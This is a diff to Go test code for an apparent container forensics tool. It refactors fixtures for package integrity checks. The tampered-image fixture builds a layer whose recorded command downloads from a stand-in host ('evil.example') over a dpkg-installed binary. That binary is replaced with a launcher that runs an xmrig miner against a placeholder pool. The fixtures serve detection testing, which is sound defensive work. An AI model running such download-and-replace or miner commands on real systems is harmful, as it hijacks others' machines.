@@ -235,25 +235,27 @@ mkdir -p /app/node_modules/evil && echo '{"name":"evil","version":"1.0.0","licen
 	}
 }
 
-const tamperedImageName = "docker.io/ctrforensics/tampered:1"
+// Names of the images of the package integrity tests.
+const (
+	toolsImageName    = "docker.io/ctrforensics/tools:1"
+	tamperedImageName = "docker.io/ctrforensics/tampered:1"
+)
 
 func md5Hex(s string) string {
 	sum := md5.Sum([]byte(s))
 	return hex.EncodeToString(sum[:])
 }
 
-// tamperedImage is the web image with a package "tools" installed by dpkg in
-// one layer (two binaries and a conffile), then a layer that replaces one of
-// its binaries with a miner's launcher, as the article's attacker would,
-// without dpkg.
-func tamperedImage(t *testing.T) *testimage.Image {
+// toolsImage is the web image with a package "tools" installed by dpkg in
+// one layer (two binaries and a conffile).
+func toolsImage(t *testing.T) *testimage.Image {
 	t.Helper()
 	web, err := testimage.WebImage(h.ctx(t))
 	if err != nil {
 		t.Fatal(err)
 	}
 	img := *web
-	img.Name = tamperedImageName
+	img.Name = toolsImageName
 	status := "Package: tools\nStatus: install ok installed\nPriority: optional\nSection: utils\nInstalled-Size: 1\n" +
 		"Maintainer: nobody <nobody@example.org>\nArchitecture: amd64\nVersion: 1.0\n" +
 		"Conffiles:\n /etc/tools.conf " + md5Hex("level=1\n") + "\nDescription: tools\n\n"
@@ -269,12 +271,22 @@ func tamperedImage(t *testing.T) *testimage.Image {
 			testimage.Reg("/var/lib/dpkg/info/tools.list", 0o644, "/etc\n/etc/tools.conf\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/other\n"),
 			testimage.Reg("/var/lib/dpkg/info/tools.md5sums", 0o644, md5Hex("#!/bin/sh\necho tool\n")+"  usr/bin/tool\n"+
 				md5Hex("#!/bin/sh\necho other\n")+"  usr/bin/other\n"),
-		}},
-		testimage.Layer{CreatedBy: "curl -fsSL http://evil.example/x -o /usr/bin/tool", Files: []testimage.File{
-			testimage.Dir("/usr", 0o755), testimage.Dir("/usr/bin", 0o755),
-			testimage.Reg("/usr/bin/tool", 0o755, "#!/bin/sh\nexec /tmp/.x/xmrig -o stratum+tcp://pool.example:3333\n"),
 		}})
 	return &img
+}
+
+// tamperedImage is toolsImage with one more layer that replaces one of the
+// package's binaries with a miner's launcher, as the article's attacker
+// would, without dpkg.
+func tamperedImage(t *testing.T) *testimage.Image {
+	t.Helper()
+	img := toolsImage(t)
+	img.Name = tamperedImageName
+	img.Layers = append(img.Layers, testimage.Layer{CreatedBy: "curl -fsSL http://evil.example/x -o /usr/bin/tool", Files: []testimage.File{
+		testimage.Dir("/usr", 0o755), testimage.Dir("/usr/bin", 0o755),
+		testimage.Reg("/usr/bin/tool", 0o755, "#!/bin/sh\nexec /tmp/.x/xmrig -o stratum+tcp://pool.example:3333\n"),
+	}})
+	return img
 }
 
 // TestPackagesVerifyImage: packages --verify of an image reads the image's
